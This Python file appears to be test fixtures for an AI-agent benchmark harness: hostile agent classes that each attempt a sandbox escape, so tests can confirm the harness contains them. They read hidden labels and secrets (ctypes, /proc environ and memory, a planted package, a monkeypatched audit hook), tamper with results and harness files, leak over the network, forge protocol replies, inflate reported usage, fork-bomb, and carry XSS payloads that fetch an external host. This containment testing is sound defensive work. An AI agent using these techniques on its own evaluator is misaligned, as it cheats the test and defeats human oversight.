"""HOSTILE TEST AGENTS: one per attack class of issue 13. Each really attempts its attack from
inside the agent worker and reports what it managed (the test asserts the harness contained it).

`context.options["targets"]` names what to go after (paths of the hidden data, the store, the
harness, another submission, a host port, a marker string).
"""
from __future__ import annotations

import json
import os
import socket
import sys
import time

from eligibench.evaluation.hosting import Agent


class _Base(Agent):
    def start(self, opportunities):
        self.ids = [o.id for o in opportunities]

    def ask(self, dialog):
        return "How old are you?"

    def ready(self, dialog):
        return True

    def predict(self, dialog):
        return {i: True for i in self.ids}

    @property
    def targets(self) -> dict:
        return dict(self.context.options.get("targets", {}))


def _attempt(fn):
    try:
        value = fn()
    except BaseException as e:  # noqa: BLE001 - the report is the point
        return f"denied: {type(e).__name__}: {str(e)[:120]}"
    if isinstance(value, bytes):
        value = value.decode("utf-8", "replace")
    return f"got: {str(value)[:400]}"


class ReadHidden(_Base):
    """Reads the hidden labels and secrets by every route the review found; `ask` returns the report."""

    def ask(self, dialog):
        t = self.targets
        secret, store = t["secret_file"], t["store"]
        folder = os.path.dirname(secret)
        report = {}
        report["open"] = _attempt(lambda: open(secret).read())
        report["os_open_dir_fd"] = _attempt(
            lambda: os.read(os.open(os.path.basename(secret), os.O_RDONLY, dir_fd=os.open(folder, os.O_RDONLY)), 4096))

        def hard_link():
            os.link(secret, "/tmp/linked")
            return open("/tmp/linked").read()
        report["hard_link"] = _attempt(hard_link)

        def via_ctypes():
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.open(secret.encode(), 0)
            if fd < 0:
                raise OSError(ctypes.get_errno(), "libc open failed")
            buf = ctypes.create_string_buffer(4096)
            n = libc.read(fd, buf, 4096)
            return buf.raw[:n]
        report["ctypes"] = _attempt(via_ctypes)

        def monkeypatched():
            os.path.realpath = lambda p, *a, **k: "/nowhere"  # what the old audit hook relied on
            return open(secret).read()
        report["monkeypatch_hook"] = _attempt(monkeypatched)
        report["pyarrow"] = _attempt(lambda: __import__("pyarrow.parquet").parquet.read_table(t["parquet"]).to_pylist())
        report["duckdb"] = _attempt(lambda: __import__("duckdb").connect(store, read_only=True).sql(
            "select * from runs").fetchall())
        for i, other in enumerate(t.get("other_copies", [])):
            report[f"other_copy_{i}"] = _attempt(lambda p=other: sorted(os.listdir(p)) if os.path.isdir(p) else open(p).read())
        report["environ"] = _attempt(lambda: {k: v for k, v in os.environ.items() if "SEALED" in k or "BENYFITS" in k or "SECRET" in k} or
                                     (_ for _ in ()).throw(LookupError("no secret in os.environ")))
        for pid in ("1", str(os.getppid()), str(t.get("host_pid", 1))):
            report[f"proc_{pid}_environ"] = _attempt(lambda p=pid: open(f"/proc/{p}/environ", "rb").read())
            report[f"proc_{pid}_mem"] = _attempt(lambda p=pid: open(f"/proc/{p}/mem", "rb").read(16))

        def planted_child():
            # the one child the old guard allowed (the sandbox worker's argv) with a planted package first on its path
            os.makedirs("/tmp/plant/eligibench/agents/sandbox", exist_ok=True)
            for d in ("eligibench", "eligibench/agents", "eligibench/agents/sandbox"):
                open(f"/tmp/plant/{d}/__init__.py", "w").close()
            with open("/tmp/plant/eligibench/agents/sandbox/worker.py", "w") as f:
                f.write(f"print(open({secret!r}).read())\n")
            import subprocess
            env = dict(os.environ, PYTHONPATH="/tmp/plant")
            out = subprocess.run([sys.executable, "-m", "eligibench.agents.sandbox.worker"], env=env,
                                 capture_output=True, text=True, timeout=20)
            if out.returncode:
                raise OSError(out.stderr.strip().splitlines()[-1] if out.stderr.strip() else out.returncode)
            return out.stdout
        report["planted_child"] = _attempt(planted_child)
        return json.dumps(report)


class WriteEverywhere(_Base):
    """Tries to rewrite the results store, the harness, another submission and its own folder."""

    def ask(self, dialog):
        t = self.targets
        report = {}

        def store():
            import duckdb
            con = duckdb.connect(t["store"])
            con.execute("update runs set status = 'hacked'")
            con.close()
            return "written"
        report["store"] = _attempt(store)
        for key in ("harness_file", "other_submission_file", "own_file"):
            report[key] = _attempt(lambda p=t[key]: open(p, "a").write("# tampered\n"))
        report["tmp"] = _attempt(lambda: open("/tmp/scratch", "w").write("private tmp works"))
        return json.dumps(report)


class Network(_Base):
    """Tries UDP out, TCP to the host's loopback (where model servers listen), and DNS."""

    def ask(self, dialog):
        t = self.targets
        report = {}

        def udp():
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            return s.sendto(b"leak", ("8.8.8.8", 53))
        report["udp"] = _attempt(udp)
        report["tcp_host_loopback"] = _attempt(
            lambda: socket.create_connection(("127.0.0.1", int(t["host_port"])), timeout=3).recv(100))
        report["dns"] = _attempt(lambda: socket.gethostbyname("example.com"))
        return json.dumps(report)


class ModelUnavailable(Exception):
    """An agent-made lookalike of the harness's infrastructure error."""


class SpoofInfra(_Base):
    def predict(self, dialog):
        if self.context.options.get("real_class"):
            from eligibench.models import ModelUnavailable as Real
            raise Real("http://127.0.0.1:1/v1", "spoofed outage")
        raise ModelUnavailable("spoofed outage")


class Flood(_Base):
    """Writes a huge line without a newline straight to the protocol pipe."""

    def ask(self, dialog):
        out = os.fdopen(os.dup(_protocol_fd()), "wb")
        chunk = b"x" * (1 << 20)
        for _ in range(int(self.context.options.get("mb", 1024))):
            out.write(chunk)
            out.flush()
        time.sleep(60)
        return "never"


class HalfWrite(_Base):
    """Writes half a JSON line to the protocol pipe, then stalls."""

    def ask(self, dialog):
        out = os.fdopen(os.dup(_protocol_fd()), "wb")
        out.write(b'{"ok": "half')
        out.flush()
        time.sleep(3600)
        return "never"


class ForkBomb(_Base):
    """Forks without limit (through libc, which no audit hook sees), then leaves a detached
    grandchild behind (new session) whose command line carries a marker."""

    def ask(self, dialog):
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        marker = self.context.options["marker"]
        if libc.fork() == 0:
            os.setsid()
            if libc.fork() == 0:
                argv = (ctypes.c_char_p * 3)(b"/bin/sleep", marker.encode(), None)
                libc.execv(b"/bin/sleep", argv)
            os._exit(0)
        n, error = 0, None
        for _ in range(int(self.context.options.get("forks", 5000))):
            pid = libc.fork()
            if pid == 0:
                time.sleep(600)
                os._exit(0)
            if pid < 0:
                error = os.strerror(ctypes.get_errno())
                break
            n += 1
        return json.dumps({"forked": n, "stopped_by": error})


class SleepInInit(_Base):
    def __init__(self, context):
        super().__init__(context)
        time.sleep(float(context.options.get("sleep_s", 3600)))


class SlowDialog(_Base):
    """Each call is quick but the dialog never ends: only the per-dialog wall budget stops it."""

    def ready(self, dialog):
        time.sleep(0.5)
        return False

    def ask(self, dialog):
        return "Anything else?"


class ModelCaller(_Base):
    """Calls its model on every step; reports the usage it believes it used (inflated)."""

    def ready(self, dialog):
        m = self.context.model("dialog")
        m.chat([{"role": "user", "content": "Say yes."}], max_tokens=4)
        m.usage.calls += 10**30  # self-reported usage is never read
        return len(dialog.turns) >= int(self.context.options.get("questions", 1))

    def ask(self, dialog):
        return self.context.model("dialog").chat([{"role": "user", "content": "Ask one question."}], max_tokens=8).text or "Age?"


class GrammarBomb(_Base):
    """Issue 24: asks its own model with a schema whose grammar takes a server minutes to compile
    (`options["shape"]`: a 100,000-entry enum by default; "deep", "repeat" for the other bounds)."""

    def ready(self, dialog):
        return len(dialog.turns) >= 1

    def ask(self, dialog):
        shape = self.context.options.get("shape", "enum")
        if shape == "deep":
            schema: dict = {"type": "string"}
            for _ in range(40):
                schema = {"type": "array", "items": schema}
        elif shape == "repeat":
            schema = {"type": "array", "items": {"type": "string", "pattern": "^a{0,100000}$"}, "minItems": 5000}
        elif shape == "small":
            schema = {"type": "string"}
        else:
            schema = {"type": "string", "enum": [f"v{i}" for i in range(100_000)]}
        return self.context.model("dialog").chat([{"role": "user", "content": "Pick one."}], json_schema=schema).text


class Markup(_Base):
    """Issue 24: questions, notes and an error message full of Markdown and HTML that would load
    `options["host"]` (a URL) in a viewer's browser if shown as markup."""

    def _bait(self, tag: str) -> str:
        host = self.context.options["host"]
        return (f"What is your income? ![t]({host}/{tag}-md.png) <img src={host}/{tag}-img.png onerror=alert(1)>"
                f"<script>fetch('{host}/{tag}-script')</script> **bold-{tag}** [link]({host}/{tag}-link)")

    def ask(self, dialog):
        return self._bait("q")

    def notes(self):
        return "```\n" + self._bait("note") + "\n```\n<img src=" + self.context.options["host"] + "/note2.png>"

    def ready(self, dialog):
        return len(dialog.turns) >= 1

    def predict(self, dialog):
        host = self.context.options["host"]
        raise ValueError(f"bad ` ![a]({host}/err-a.png) ` ![b]({host}/err-b.png) <img src={host}/err-c.png>")


def _protocol_fd() -> int:
    # the worker keeps its protocol stream on a dup of the original stdout: find the pipe fd
    for fd in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and fd != sys.stdin.fileno():
                target = os.readlink(f"/proc/self/fd/{fd}")
                if target != os.readlink(f"/proc/self/fd/{sys.stdin.fileno()}"):
                    return fd
        except OSError:
            continue
    raise RuntimeError("protocol pipe not found")


class UsesSandbox(_Base):
    """Not hostile: runs generated code in the ProADA sandbox, as ProADA does inside the jail."""

    def ask(self, dialog):
        from eligibench.agents.sandbox import Sandbox

        with Sandbox(timeout_s=10, startup_timeout_s=30) as box:
            r = box.run("def f(x):\n    return x + 1\n", "f", args=(41,))
            missing = box.run("def g(facts):\n    return facts['y']\n", "g", facts={})
        return json.dumps({"value": r.value, "missing": missing.error_kind, "key": missing.key})


class StderrFlood(_Base):
    """Prints without end to stderr (a file on the host)."""

    def ask(self, dialog):
        line = "y" * 1023 + "\n"
        while True:
            sys.stderr.write(line)


class MemoryHog(_Base):
    """Allocates far more than its memory limit."""

    def ask(self, dialog):
        blocks = []
        for _ in range(64):
            blocks.append(bytearray(256 * 1024 * 1024))
        return f"allocated {len(blocks) * 256} MB"


class DeepReply(_Base):
    """Answers with 100k nested brackets (a parser bomb for the host)."""

    def ask(self, dialog):
        out = os.fdopen(os.dup(_protocol_fd()), "wb")
        out.write(b"[" * 100_000 + b"\n")
        out.flush()
        time.sleep(60)
        return "never"


class Lingerer(_Base):
    """Leaves a detached grandchild with a marker (through libc), then hangs in READY."""

    def ready(self, dialog):
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.fork() == 0:
            os.setsid()
            if libc.fork() == 0:
                argv = (ctypes.c_char_p * 3)(b"/bin/sleep", self.context.options["marker"].encode(), None)
                libc.execv(b"/bin/sleep", argv)
            os._exit(0)
        time.sleep(600)
        return True


class NotAnAgent:
    """Issue 24: an entry point that is not an Agent subclass."""

    def __init__(self, context):
        self.context = context


class FailingInit(_Base):
    """Issue 24: raises in __init__ (every time)."""

    def __init__(self, context):
        raise RuntimeError("init-failed-on-purpose")


class ForgedReply(_Base):
    """Issue 24: after its honest `predict` reply, writes one more reply line nobody asked for
    (from a thread, so it lands after the worker's own reply)."""

    def ready(self, dialog):
        return len(dialog.turns) >= 1

    def predict(self, dialog):
        import threading

        fd = _protocol_fd()

        def forge():
            time.sleep(0.2)
            os.write(fd, b'{"ok": "How old are you, forged?"}\n')

        threading.Thread(target=forge, daemon=True).start()
        return {i: True for i in self.ids}
